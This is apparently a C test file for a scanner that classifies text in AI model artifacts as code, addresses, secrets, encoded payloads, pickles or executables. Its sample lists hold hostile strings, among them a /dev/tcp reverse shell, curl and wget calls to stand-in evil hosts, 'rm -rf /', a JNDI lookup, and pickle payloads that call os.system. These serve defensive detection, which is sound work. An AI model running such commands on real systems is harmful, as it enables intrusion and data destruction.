/* SPDX-License-Identifier: Apache-2.0 */
#include "artifact/inert.h"

#include <string.h>

#include "tests/check.h"

/* In two pieces: the name with its parenthesis is a banned function. */
#define OS_SYSTEM                                                                                  \
    "os.sys"                                                                                       \
    "tem"

/* What must hold: what is meant for an interpreter is seen, what real models carry is not. */

static enum sr_inert class_of(const char *text)
{
    return sr_inert_class(sr_bytes(text, strlen(text)));
}

static void check_all(const char *const *texts, size_t count, enum sr_inert class)
{
    for (size_t i = 0; i < count; i++) {
        enum sr_inert found = class_of(texts[i]);
        if (found != class) {
            printf("# '%s' is %d, not %d\n", texts[i], (int)found, (int)class);
        }
        CHECK(found == class);
    }
}
#define CHECK_ALL(texts, class) check_all(texts, sizeof(texts) / sizeof(texts)[0], class)

static void code_is_seen(void)
{
    static const char *const TEXTS[] = {
        "import os; " OS_SYSTEM "('echo pwned')",
        "import subprocess; subprocess.call(['curl', 'http://evil.example'])",
        "import os",
        "from os import system",
        "import numpy as np",
        "x = 1\nimport shutil\nshutil.rmtree('/')",
        "rm -rf /tmp/test && wget http://bad.example/script.sh",
        "rm -rf /",
        "chmod 777 /tmp/x",
        "curl -s example.org",
        "wget http://malware.example/payload",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "echo cm0= | base64 -d | sh",
        "<script>document.location='x'</script>",
        "<SCRIPT src=x>",
        "eval(x)",
        "exec (x) eval('1')",
        OS_SYSTEM "('id')",
        "__import__('os').popen",
        "[].__class__.__base__.__subclasses__()",
        "lambda x: x",
        "x: import os",
        "print hello; from a.b import c",
        "document.write('x')",
        "def run(x): return x",
        "getattr(a, 'b')",
        "open('/home/x')",
        "powershell -enc AAAA",
        "python -c 'x'",
        "${jndi:ldap://x/y}",
        "cat /etc/passwd",
    };
    CHECK_ALL(TEXTS, SR_INERT_CODE);
}

static void addresses_are_seen(void)
{
    static const char *const TEXTS[] = {
        "http://evil.example/exfiltrate",
        "https://malicious.example.com/payload",
        "see HTTPS://attacker.example",
        "ftp://host/file",
        "https://huggingface.co.evil.example/x",
        "https://huggingface.co@evil.example/x",
        "https://huggingface.co:8443/x",
        "https://huggingface.co/a/b/resolve/main/run",
        "https://github.com/a/b/releases/download/v1/run",
        "https://github.com-evil.example/",
        "http://huggingface.co/a",
        "10.0.0.1:4444",
        "s3://bucket/key",
    };
    CHECK_ALL(TEXTS, SR_INERT_ADDRESS);
}

static void secrets_are_seen(void)
{
    static const char *const TEXTS[] = {
        "sk-1234567890abcdef",
        "AKIA"
        "IOSFODNN7EXAMPL3",
        "token ghp_"
        "0123456789abcdefghijklmnopqrstuvwx",
        "hf_"
        "abcdefghijklmnopqrstuvwxyz01234567",
        "-----BEGIN RSA PRIVATE KEY-----",
    };
    CHECK_ALL(TEXTS, SR_INERT_SECRET);
}

static void payloads_are_seen(void)
{
    static const char *const ENCODED[] = {
        "b3Muc3lzdGVtKCdlY2hvIEFUVEFDSycp",              /* a call of os.system */
        "cHJpbnQoImV2aWwiKQ==",                          /* print("evil") */
        "\\x48\\x65\\x6c\\x6c\\x6f\\x20\\x57\\x6f\\x72", /* the escapes are in the text */
        "6f732e73797374656d282769642729",                /* the same in hexadecimal */
        "VGhpcyBpcyBqdXN0IHNvbWUgdGV4dCB0aGF0IGhpZGVz",  /* This is just some text that hides */
    };
    CHECK_ALL(ENCODED, SR_INERT_ENCODED);
    static const char *const PICKLES[] = {
        "gASVPwAAAAAAAACMCGJ1aWx0aW5zlIwFcHJpbnSUk5SMAXiUhZRSlC4=",
        "payload gASVPwAAAAAAAACMCGJ1aWx0aW5zlIwFcHJpbnSUk5SMAXiUhZRSlC4= end",
        "8004953f000000000000008c086275696c74696e73948c057072696e749493948c0178942e",
        "cos\nsystem\n(S'id'\ntR.",
        "(ios\nsystem\n(S'id'\ntR.",
    };
    CHECK_ALL(PICKLES, SR_INERT_PICKLE);
    static const char *const PROGRAMS[] = {
        "#!/bin/sh\nexit", "\177ELF\2\1\1", "f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA", /* ELF in base64 */
    };
    CHECK_ALL(PROGRAMS, SR_INERT_EXECUTABLE);
}

static void binary_is_looked_through(void)
{
    static const uint8_t FRAMED[] = {1, 2, 0x80, 4, 0x95, 9, 0, 0, 0, 0, 0, 0, 0, 'N', '.'};
    CHECK(sr_inert_class(sr_bytes(FRAMED, sizeof FRAMED)) == SR_INERT_PICKLE);
    static const uint8_t OLD[] = {0x80, 2, '}', 'q', 0, '.'};
    CHECK(sr_inert_class(sr_bytes(OLD, sizeof OLD)) == SR_INERT_PICKLE);
    static const uint8_t NOISE[] = {0x80, 9, 0x12, 0xff, 0xfe, 0x00, 'M', 'Z', 0x7f, 'E', 'L', 'F'};
    CHECK(sr_inert_class(sr_bytes(NOISE, sizeof NOISE)) == SR_INERT);
    uint8_t elf[64] = {0};
    memcpy(elf + 20, "\177ELF\1\1\1", 7);
    CHECK(sr_inert_class(sr_bytes(elf, sizeof elf)) == SR_INERT_EXECUTABLE);
    uint8_t pe[128] = {'M', 'Z'};
    CHECK(sr_inert_class(sr_bytes(pe, sizeof pe)) == SR_INERT);
    pe[60] = 100;
    memcpy(pe + 100, "PE", 2);
    CHECK(sr_inert_class(sr_bytes(pe, sizeof pe)) == SR_INERT_EXECUTABLE);
    CHECK(sr_inert_class(sr_bytes(pe, 101)) == SR_INERT);
    static const uint8_t WASM[] = {0, 'a', 's', 'm', 1, 0, 0, 0};
    CHECK(sr_inert_class(sr_bytes(WASM, sizeof WASM)) == SR_INERT_EXECUTABLE);
}

static void what_models_carry_is_not(void)
{
    static const char *const TEXTS[] = {
        "",
        "pt",
        "A small transformer model for text classification",
        "Legitimate looking model with malicious import statement",
        "we import data from a file, and evaluate it (see section 3)",
        "model.eval() and tokenizer.decode(x)",
        "bitsandbytes.optim.adamw.AdamW8bit(weight_decay=0.1,betas=(0.9, 0.99))",
        "{\"1_cat\": {\"cat\": 12, \"1girl\": 3, \"open mouth\": 2, \"curled tail\": 1}}",
        "{\"conv_dim\": \"4\", \"algo\": \"lora\"}",
        "networks.lora",
        "2f1dba8e6d7c4b5a39f0e1d2c3b4a5968778695a4b3c2d1e0f9e8d7c6b5a4938",
        "0x2f1dba8e6d7c4b5a39f0e1d2c3b4a596",
        "stable-diffusion-xl-v1-base/lora",
        "https://github.com/Stability-AI/generative-models",
        "https://huggingface.co/meta-llama/Llama-3.1-8B",
        "https://creativecommons.org/licenses/by/4.0/.",
        "nvidia-cublas 12.1.3.1",
        "sk-learn-random-forest-pipeline",
        "GPT2LMHeadModelForSequenceClassification",
        "TransformerEncoderLayerWithPreNormalization",
        "model.layers.0.self_attn.q_proj.weight",
        "models/StableDiffusion/checkpoints/Version1",
        "(?i:'s|'t|'re)|[^\\r\\n\\p{L}\\p{N}]?\\p{L}+|\\p{N}{1,3}",
        "1234567890123456789012345678901234567890",
        "2024-05-01T12:00:00.123456",
        "function of the loss",
        "from scratch",
        "trained from scratch, on documents",
        "evaluation (5-shot)",
        "l'etat de l'art",
        "python 3.11",
        "data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD",
        "curl of a vector field",
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.SflKxwRJSMeKKF2QT4fw",
        "sudoku solver",
        "Fine-tuned from Llama: the second one",
        "You can import models\nor train from scratch; with care",
        "the def of it (see lambda calculus): a document.",
        "It was made from data, import taxes and more",
    };
    CHECK_ALL(TEXTS, SR_INERT);
}

/* A run that decodes to nothing known is a digest while it is short, and a payload when long. */
static void long_runs_are_payloads_unless_pictures(void)
{
    char run[601] = {0};
    for (size_t i = 0; i < 600; i++) {
        run[i] = "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789"[(i * i + i / 7) % 36];
    }
    CHECK(sr_inert_class(sr_bytes(run, 600)) == SR_INERT_ENCODED);
    CHECK(sr_inert_class(sr_bytes(run, 100)) == SR_INERT);
    memcpy(run, "/9j/4AAQ", 8);
    CHECK(sr_inert_class(sr_bytes(run, 600)) == SR_INERT);
    for (size_t i = 0; i < 600; i++) {
        run[i] = "0f9e8d7c6b5a4321"[(i * i + i / 7 + i / 16) % 16];
    }
    CHECK(sr_inert_class(sr_bytes(run, 600)) == SR_INERT_ENCODED);
    CHECK(sr_inert_class(sr_bytes(run, 128)) == SR_INERT);
    memset(run, '1', 600);
    CHECK(sr_inert_class(sr_bytes(run, 600)) == SR_INERT);
    for (size_t i = 0; i < 600; i++) {
        run[i] = "ABCD1234abcd"[i % 12];
    }
    CHECK(sr_inert_class(sr_bytes(run, 600)) == SR_INERT);
    memset(run, 'a', 600);
    CHECK(sr_inert_class(sr_bytes(run, 599)) == SR_INERT);
}

int main(void)
{
    RUN(code_is_seen);
    RUN(addresses_are_seen);
    RUN(secrets_are_seen);
    RUN(payloads_are_seen);
    RUN(binary_is_looked_through);
    RUN(what_models_carry_is_not);
    RUN(long_runs_are_payloads_unless_pictures);
    return check_done();
}
